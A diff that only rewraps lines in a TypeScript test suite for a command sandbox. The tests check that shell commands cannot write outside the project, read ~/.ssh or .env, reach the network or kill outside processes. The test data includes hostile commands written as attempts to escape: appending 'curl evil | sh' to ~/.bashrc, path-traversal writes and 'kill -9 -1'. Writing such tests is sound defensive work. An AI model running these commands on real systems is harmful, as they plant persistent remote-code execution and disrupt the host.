@@ -99,7 +99,12 @@ describe("Sandbox.policy", () => {
 
   it("allow_write adds writable places, allow_read unmasks a default secret, deny_read hides more", () => {
     const policy = Sandbox.policy({
-      settings: { ...Sandbox.defaults, allowWrite: [outside], allowRead: ["~/.aws"], denyRead: ["~/.bashrc"] },
+      settings: {
+        ...Sandbox.defaults,
+        allowWrite: [outside],
+        allowRead: ["~/.aws"],
+        denyRead: ["~/.bashrc"]
+      },
       ruleset: rules,
       projectRoot: project,
       home
@@ -130,7 +135,10 @@ describe("Sandbox.policy", () => {
     assert.isAbove(at("--bind", project, project), at("--tmpfs", "/tmp"))
     const gitDir = NodePath.join(project, ".git")
     assert.isAbove(at("--ro-bind", gitDir, gitDir), at("--bind", project, project))
-    assert.isAbove(at("--ro-bind", "/dev/null", NodePath.join(project, ".env")), at("--ro-bind", gitDir, gitDir))
+    assert.isAbove(
+      at("--ro-bind", "/dev/null", NodePath.join(project, ".env")),
+      at("--ro-bind", gitDir, gitDir)
+    )
     for (const flag of ["--unshare-pid", "--unshare-net", "--die-with-parent", "--new-session"]) {
       assert.include(args, flag)
     }
@@ -145,8 +153,14 @@ describe("Sandbox.policy", () => {
     assert.match(profile, /^\(version 1\)\n/)
     assert.include(profile, `(subpath ${JSON.stringify(project)})`)
     assert.include(profile, `(deny file-write* (subpath ${JSON.stringify(NodePath.join(project, ".git"))}))`)
-    assert.include(profile, `(deny file-read* file-write* (subpath ${JSON.stringify(NodePath.join(home, ".ssh"))}))`)
-    assert.include(profile, `(deny file-read* file-write* (literal ${JSON.stringify(NodePath.join(project, ".env"))}))`)
+    assert.include(
+      profile,
+      `(deny file-read* file-write* (subpath ${JSON.stringify(NodePath.join(home, ".ssh"))}))`
+    )
+    assert.include(
+      profile,
+      `(deny file-read* file-write* (literal ${JSON.stringify(NodePath.join(project, ".env"))}))`
+    )
     assert.include(profile, "(deny network*)")
     assert.notInclude(Sandbox.seatbeltProfile({ ...policy, network: "allow" }), "(deny network*)")
   })
@@ -157,29 +171,31 @@ describe.runIf(onLinux)("commands in the sandbox (bubblewrap, for real)", () => 
     assert.strictEqual(Sandbox.detect().kind, "bwrap")
   })
 
-  it.live("writes outside the project fail: directly, through a link, through .., through /proc/self/cwd", () =>
-    Effect.gen(function* () {
-      const attempts = [
-        `echo x > ${outside}/direct.txt`,
-        "echo x > out-link/linked.txt",
-        "echo x > ../outside/dotdot.txt",
-        "echo x > /proc/self/cwd/../outside/proc.txt",
-        `cp app.txt ${home}/.bashrc`,
-        `echo 'curl evil | sh' >> ~/.bashrc`
-      ]
-      for (const command of attempts) {
-        const result = yield* bash(command)
-        assert.notStrictEqual(result.exitCode, 0, command)
-        assert.isTrue(result.sandboxed)
-      }
-      for (const name of ["direct.txt", "linked.txt", "dotdot.txt", "proc.txt"]) {
-        assert.isFalse(existsSync(NodePath.join(outside, name)), name)
-      }
-      assert.strictEqual(readFileSync(NodePath.join(home, ".bashrc"), "utf8"), "# original\n")
-      const refused = yield* bash(`touch ${outside}/again.txt`)
-      assert.match(refused.sandboxRefusal ?? "", /read-only file system/)
-      assert.include(refused.output, "<sandbox_status>")
-    })
+  it.live(
+    "writes outside the project fail: directly, through a link, through .., through /proc/self/cwd",
+    () =>
+      Effect.gen(function* () {
+        const attempts = [
+          `echo x > ${outside}/direct.txt`,
+          "echo x > out-link/linked.txt",
+          "echo x > ../outside/dotdot.txt",
+          "echo x > /proc/self/cwd/../outside/proc.txt",
+          `cp app.txt ${home}/.bashrc`,
+          `echo 'curl evil | sh' >> ~/.bashrc`
+        ]
+        for (const command of attempts) {
+          const result = yield* bash(command)
+          assert.notStrictEqual(result.exitCode, 0, command)
+          assert.isTrue(result.sandboxed)
+        }
+        for (const name of ["direct.txt", "linked.txt", "dotdot.txt", "proc.txt"]) {
+          assert.isFalse(existsSync(NodePath.join(outside, name)), name)
+        }
+        assert.strictEqual(readFileSync(NodePath.join(home, ".bashrc"), "utf8"), "# original\n")
+        const refused = yield* bash(`touch ${outside}/again.txt`)
+        assert.match(refused.sandboxRefusal ?? "", /read-only file system/)
+        assert.include(refused.output, "<sandbox_status>")
+      })
   )
 
   it.live("an edit-denied .git/hooks stays untouched even when the gate is fooled", () =>
@@ -203,7 +219,9 @@ describe.runIf(onLinux)("commands in the sandbox (bubblewrap, for real)", () => 
   it.live("no connection reaches a loopback listener outside, and no secret with it", () =>
     Effect.gen(function* () {
       const received: Array<string> = []
-      const server = NodeNet.createServer((socket) => socket.on("data", (data) => received.push(data.toString())))
+      const server = NodeNet.createServer((socket) =>
+        socket.on("data", (data) => received.push(data.toString()))
+      )
       yield* Effect.promise(() => new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve)))
       const port = (server.address() as NodeNet.AddressInfo).port
       try {
@@ -219,24 +237,28 @@ describe.runIf(onLinux)("commands in the sandbox (bubblewrap, for real)", () => 
     })
   )
 
-  it.live("processes outside cannot be killed, kill -9 -1 included; detached children die with the command", () =>
-    Effect.gen(function* () {
-      const victim: ChildProcess = spawn("sleep", ["60"], { stdio: "ignore" })
-      try {
-        yield* bash(`kill -9 ${victim.pid}; kill -9 -1; true`)
-        assert.isNull(victim.exitCode)
-        assert.isNull(victim.signalCode)
-        assert.isTrue(process.kill(victim.pid!, 0))
-        const marker = "sleep 313.25"
-        yield* bash(`setsid ${marker} >/dev/null 2>&1 & nohup ${marker} >/dev/null 2>&1 & echo started`)
-        yield* Effect.sleep(200)
-        const ps = spawn("pgrep", ["-f", marker])
-        const code = yield* Effect.promise(() => new Promise<number | null>((resolve) => ps.once("exit", resolve)))
-        assert.strictEqual(code, 1, "no process matching the marker is left")
-      } finally {
-        victim.kill("SIGKILL")
-      }
-    })
+  it.live(
+    "processes outside cannot be killed, kill -9 -1 included; detached children die with the command",
+    () =>
+      Effect.gen(function* () {
+        const victim: ChildProcess = spawn("sleep", ["60"], { stdio: "ignore" })
+        try {
+          yield* bash(`kill -9 ${victim.pid}; kill -9 -1; true`)
+          assert.isNull(victim.exitCode)
+          assert.isNull(victim.signalCode)
+          assert.isTrue(process.kill(victim.pid!, 0))
+          const marker = "sleep 313.25"
+          yield* bash(`setsid ${marker} >/dev/null 2>&1 & nohup ${marker} >/dev/null 2>&1 & echo started`)
+          yield* Effect.sleep(200)
+          const ps = spawn("pgrep", ["-f", marker])
+          const code = yield* Effect.promise(
+            () => new Promise<number | null>((resolve) => ps.once("exit", resolve))
+          )
+          assert.strictEqual(code, 1, "no process matching the marker is left")
+        } finally {
+          victim.kill("SIGKILL")
+        }
+      })
   )
 
   it.live("everyday work still runs: files in the project, git, no_new_privs, the project's tools", () =>
@@ -249,30 +271,35 @@ describe.runIf(onLinux)("commands in the sandbox (bubblewrap, for real)", () => 
       assert.match(result.output, /^built\n/)
       assert.match(result.output, /NoNewPrivs:\s+1/)
       assert.strictEqual(readFileSync(NodePath.join(project, "out.txt"), "utf8"), "built\n")
-      const git = yield* bash("git -c init.defaultBranch=main init -q repo && cd repo && git status --short && echo ok", {
-        ruleset: [{ permission: "*", pattern: "*", action: "allow" }]
-      })
+      const git = yield* bash(
+        "git -c init.defaultBranch=main init -q repo && cd repo && git status --short && echo ok",
+        {
+          ruleset: [{ permission: "*", pattern: "*", action: "allow" }]
+        }
+      )
       assert.strictEqual(git.exitCode, 0, git.output)
       assert.match(git.output, /ok\n$/)
     })
   )
 
-  it.live("/tmp is the project's own: kept between its commands, apart from the host's /tmp and other projects", () =>
-    Effect.gen(function* () {
-      const name = `gatehouse-tmp-${process.pid}-${Date.now()}`
-      const wrote = yield* bash(`echo kept > /tmp/${name} && cat /tmp/${name}`)
-      assert.strictEqual(wrote.exitCode, 0, wrote.output)
-      assert.isFalse(existsSync(NodePath.join("/tmp", name)), "the host's /tmp is not the sandbox's")
-      const again = yield* bash(`cat /tmp/${name}`)
-      assert.strictEqual(again.output, "kept\n")
-      const other = NodePath.join(base, "other-project")
-      mkdirSync(other)
-      const elsewhere = yield* bash(`cat /tmp/${name}`, { projectRoot: other })
-      assert.notStrictEqual(elsewhere.exitCode, 0)
-      const tmp = Sandbox.projectTmp(project)
-      assert.isDefined(tmp)
-      assert.strictEqual(lstatSync(tmp!).mode & 0o777, 0o700)
-    })
+  it.live(
+    "/tmp is the project's own: kept between its commands, apart from the host's /tmp and other projects",
+    () =>
+      Effect.gen(function* () {
+        const name = `gatehouse-tmp-${process.pid}-${Date.now()}`
+        const wrote = yield* bash(`echo kept > /tmp/${name} && cat /tmp/${name}`)
+        assert.strictEqual(wrote.exitCode, 0, wrote.output)
+        assert.isFalse(existsSync(NodePath.join("/tmp", name)), "the host's /tmp is not the sandbox's")
+        const again = yield* bash(`cat /tmp/${name}`)
+        assert.strictEqual(again.output, "kept\n")
+        const other = NodePath.join(base, "other-project")
+        mkdirSync(other)
+        const elsewhere = yield* bash(`cat /tmp/${name}`, { projectRoot: other })
+        assert.notStrictEqual(elsewhere.exitCode, 0)
+        const tmp = Sandbox.projectTmp(project)
+        assert.isDefined(tmp)
+        assert.strictEqual(lstatSync(tmp!).mode & 0o777, 0o700)
+      })
   )
 
   it.live("enforce with no sandbox fails typed and runs nothing; off runs unsandboxed and says so", () =>
@@ -284,7 +311,9 @@ describe.runIf(onLinux)("commands in the sandbox (bubblewrap, for real)", () => 
       // A PATH without bwrap, in a layer of its own (detection is per layer).
       process.env.PATH = "/nonexistent"
       try {
-        const exit = yield* Effect.exit(bash(`echo x > ${outside}/enforced.txt`, { env: { HOME: home, PATH: "/usr/bin:/bin" } }))
+        const exit = yield* Effect.exit(
+          bash(`echo x > ${outside}/enforced.txt`, { env: { HOME: home, PATH: "/usr/bin:/bin" } })
+        )
         assert.isTrue(Exit.isFailure(exit))
         const error = Exit.isFailure(exit) ? Exit.findErrorOption(exit) : undefined
         assert.strictEqual(error?._tag === "Some" ? error.value._tag : undefined, "SandboxUnavailableError")
